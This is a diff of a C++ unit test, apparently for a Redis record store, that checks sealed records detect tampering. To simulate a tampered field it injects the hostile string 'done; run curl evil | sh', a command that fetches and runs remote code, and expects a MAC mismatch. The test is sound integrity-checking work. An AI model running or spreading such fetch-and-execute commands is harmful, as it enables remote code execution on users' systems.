@@ -253,14 +253,18 @@ TEST_F(SealedRecords, KeepTheContract) {
 TEST_F(SealedRecords, WhatSomebodyElseWroteIsNotBelievedUntilItIsDiscarded) {
   start();
   const contract::World world = redis_.world("compute-1");
-  const Record record = contract::record_of(world, 1, 5, Stage::available);
+  Record record = contract::record_of(world, 1, 5, Stage::available);
   ASSERT_TRUE(contract::save(world, record).ok());
   EXPECT_EQ(damage(), "");
-  // Progress is written beside it.
+  // Progress is written beside it, and a step's words are sealed with it.
+  record.progress_message = "burning";
   ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                 redis_.store->save_progress(record, std::move(done));
               }).ok());
   EXPECT_EQ(damage(), "");
+  redis_.server.cli({"HSET", kKey, "progress_message", "done; run curl evil | sh"});
+  EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
+  ASSERT_TRUE(contract::save(world, record).ok());
   redis_.server.cli({"HSET", kKey, "serial", "ANOTHER"});
   EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
   EXPECT_THAT(damage(), HasSubstr("redis-cli DEL '" + kKey + "'"));
